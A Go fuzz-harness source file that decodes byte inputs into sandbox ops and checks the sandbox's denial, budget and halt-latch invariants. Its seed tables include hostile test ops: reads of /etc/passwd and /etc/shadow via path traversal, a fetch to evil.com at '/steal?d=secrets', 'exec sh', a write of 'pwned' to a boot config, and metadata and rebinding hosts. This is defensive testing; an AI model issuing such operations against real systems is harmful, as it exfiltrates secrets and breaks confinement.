package fuzzinput

import (
	"fmt"
	"math"
	"net/netip"
	"runtime/debug"
	"strings"

	"github.com/sbxfuzz/sbxfuzz/core"
)

// CheckRun's input format, kept simple so a crasher can be read by hand:
//
//	input = step-byte op*
//	op    = a raw op, as ModeArena decodes one (rawOp): a head byte, then
//	        strings; a string's 0xE0–0xFF bytes name runWords
//
// The step byte picks the clock's step: runSteps[b%4]. Decoding stops at
// the end of the input or after runMaxOps ops. Every input decodes to some
// scenario.

// runSteps are the clock steps the first byte picks from: steady, stopped,
// fast enough to spend the wall budget before the op budget, and huge.
var runSteps = [4]int64{1, 0, 3, math.MaxInt64 / 2}

// runWords are the strings a name byte picks: the paths, hosts, tools and
// hostile spellings the fixed grant and world make interesting.
var runWords = []string{
	"/work/a", "/work/out/r", "/work/out/new", "/work/big", "/work/empty",
	"/work/../etc/passwd", "/etc/passwd", "/workshop/a", "/work/..hidden", `\work\..\etc`,
	"//work//a", "/work/%2e%2e/etc", "/work/out/..", "/work/out", "/",
	"api.internal", "rebind.example", "API.internal", "2130706433", "169.254.169.254",
	"localhost", "/status", "/x", "echo", "summarize",
	"ECHO", "hello", "", "\x00", "\xff",
}

// runMaxOps bounds the ops one input decodes to.
const runMaxOps = 256

// runBudgets are the fixed grant's budgets: small, so that every budget can
// be spent by a short input.
var runBudgets = core.Budgets{MaxOps: 40, MaxWall: 100, MaxOutputBytes: 64}

// runGrant is the fixed grant every CheckRun input runs under.
var runGrant = core.MustGrant(core.GrantSpec{
	FSRead:   []string{"/work/"},
	FSWrite:  []string{"/work/out/"},
	NetHosts: []string{"api.internal", "rebind.example"},
	Tools:    []string{"echo"},
	Budgets:  runBudgets,
})

// runWorld is the fixed world, with the clock step the input chose. The
// granted host rebind.example rebinds between a public and a loopback
// address.
func runWorld(step int64) core.WorldSpec {
	return core.WorldSpec{
		Files: []core.File{
			{Path: "/work/a", Data: "hello"},
			{Path: "/work/..hidden", Data: "h"},
			{Path: "/work/out/r", Data: "report"},
			{Path: "/work/big", Data: strings.Repeat("B", 48)},
			{Path: "/work/empty", Data: ""},
			{Path: "/etc/passwd", Data: "root:x:0:0"},
		},
		Routes: []core.Route{
			{Host: "api.internal", Path: "/status", Body: "ok"},
			{Host: "rebind.example", Path: "/x", Body: "rebound"},
		},
		DNS: []core.DNSRecord{{Host: "rebind.example", Addrs: []netip.Addr{
			netip.MustParseAddr("203.0.113.9"), netip.MustParseAddr("127.0.0.1"),
		}}},
		Clock: core.TickClock{Start: 0, Step: step},
	}
}

// DecodeRun decodes data as described above: the clock step and the ops.
func DecodeRun(data []byte) (step int64, ops []core.Op) {
	if len(data) == 0 {
		return runSteps[0], nil
	}
	step = runSteps[data[0]%4]
	src := &byteSource{data: string(data[1:])}
	for len(src.data) > 0 && len(ops) < runMaxOps {
		ops = append(ops, rawOp(src, runWords, nil))
	}
	return step, ops
}

// EncodeRun is DecodeRun's inverse for building seeds: the step index
// (0–3) and ops with at most three arguments, each string shorter than
// 0xC0 bytes. It panics on anything else: it is for fixed seed tables.
func EncodeRun(stepIndex byte, ops []core.Op) []byte {
	out := []byte{stepIndex}
	for _, o := range ops {
		out = appendRawOp(out, o)
	}
	return out
}

// RunSeeds returns FuzzRun's seed inputs: the worked trace under the fixed
// grant, rebinding, an op flood, an output flood, a wall jump, and hostile
// kinds and arguments.
func RunSeeds() [][]byte {
	op := func(kind string, args ...string) core.Op { return core.Op{Kind: kind, Args: args} }
	repeat := func(o core.Op, n int) []core.Op {
		out := make([]core.Op, n)
		for i := range out {
			out[i] = o
		}
		return out
	}
	return [][]byte{
		{},
		EncodeRun(0, []core.Op{
			op("fs_read", "/work/a"), op("fs_read", "/etc/passwd"), op("fs_read", "/work/../etc/shadow"),
			op("fs_write", "/work/out/report.txt", "done"), op("fs_write", "/system/boot.cfg", "pwned"),
			op("net_fetch", "api.internal", "/status"), op("net_fetch", "evil.com", "/steal?d=secrets"),
			op("tool", "echo", "hi"), op("tool", "exec", "sh"), op("fs_read", "/work/..hidden"),
		}),
		EncodeRun(0, repeat(op("net_fetch", "rebind.example", "/x"), 5)),
		EncodeRun(1, repeat(op("fs_read", "/work/empty"), 45)),
		EncodeRun(0, repeat(op("fs_read", "/work/big"), 3)),
		EncodeRun(2, repeat(op("tool", "echo", "t"), 40)),
		EncodeRun(3, []core.Op{op("fs_read", "/work/a"), op("fs_read", "/work/a")}),
		EncodeRun(0, []core.Op{
			op("exec", "sh"), op("FS_READ", "/work/a"), op("fs_read ", "/work/a"), op("", "x"),
			op("fs_read"), op("fs_read", "/work/a", "x"), op("fs_write", "/work/out/x", "d", "e"),
			op("fs_read", "/work/\x00"), op("tool", "echo", "\xff"), op("net_fetch", "api.internal", "/\xc0\xaf"),
			op("fs_write", "/work/out/x", "ok"), op("tool", "echo", ""),
		}),
	}
}

// CheckRun decodes data (see DecodeRun) and runs the ops on a fresh
// reference sandbox over the fixed grant and world. It returns an error
// when an op panics; a result has the Invalid kind, a kind out of range,
// Hard unequal to Kind.IsHard(), or data without being allowed; a denial
// (Kind.IsDenial()) journals or changes the VFS; an op before the halt is
// not charged exactly once; the data returned totals more than the output
// budget; or, after the first hard result, a result differs from it or the
// journal, the VFS, the usage or the clock moves (the latch).
func CheckRun(data []byte) (err error) {
	step, ops := DecodeRun(data)
	defer func() {
		if p := recover(); p != nil {
			err = fmt.Errorf("panic outside Run: %v\n%s", p, debug.Stack())
		}
	}()
	w := core.NewWorld(runWorld(step))
	s := core.NewReference(runGrant, w)
	var (
		latched core.Result
		halted  bool
		output  int64
	)
	for i, o := range ops {
		usage, jlen, fp, reads := s.Usage(), w.JournalLen(), w.Fingerprint(), w.ClockReads()
		r, p, stack := runOne(s, o)
		fail := func(format string, args ...any) error {
			return fmt.Errorf("op %d (%s %q), step %d: %s", i+1, o.Kind, o.Args, step, fmt.Sprintf(format, args...))
		}
		switch {
		case p != nil:
			return fail("panic: %v\n%s", p, stack)
		case r.Kind == core.Invalid || r.Kind >= core.NumKinds:
			return fail("no verdict: kind %d", r.Kind)
		case r.Hard != r.Kind.IsHard():
			return fail("%v with hard=%v", r.Kind, r.Hard)
		case r.Kind != core.OK && r.Data != "":
			return fail("%v returned data %q", r.Kind, r.Data)
		}
		moved := w.JournalLen() != jlen || w.Fingerprint() != fp
		if halted {
			switch {
			case r != latched:
				return fail("after the halt: %+v, want the latched %+v", r, latched)
			case moved || w.ClockReads() != reads:
				return fail("after the halt: the world moved (journal %d→%d, clock reads %d→%d)", jlen, w.JournalLen(), reads, w.ClockReads())
			case s.Usage() != usage:
				return fail("after the halt: usage %+v→%+v", usage, s.Usage())
			}
			continue
		}
		if r.Kind.IsDenial() && moved {
			return fail("%v touched the world: journal %d→%d %q", r.Kind, jlen, w.JournalLen(), w.Journal()[jlen:])
		}
		if got := s.Usage().Ops; got != usage.Ops+1 {
			return fail("ops counter %d→%d, want +1", usage.Ops, got)
		}
		if output += int64(len(r.Data)); output > runBudgets.MaxOutputBytes {
			return fail("%d bytes of data returned, budget %d", output, runBudgets.MaxOutputBytes)
		}
		if r.Hard {
			halted, latched = true, r
		}
	}
	return nil
}

// runOne runs one op, turning a panic into a value.
func runOne(s core.Sandbox, o core.Op) (r core.Result, panicked any, stack []byte) {
	defer func() {
		if p := recover(); p != nil {
			panicked, stack = p, debug.Stack()
		}
	}()
	return s.Run(o), nil, nil
}
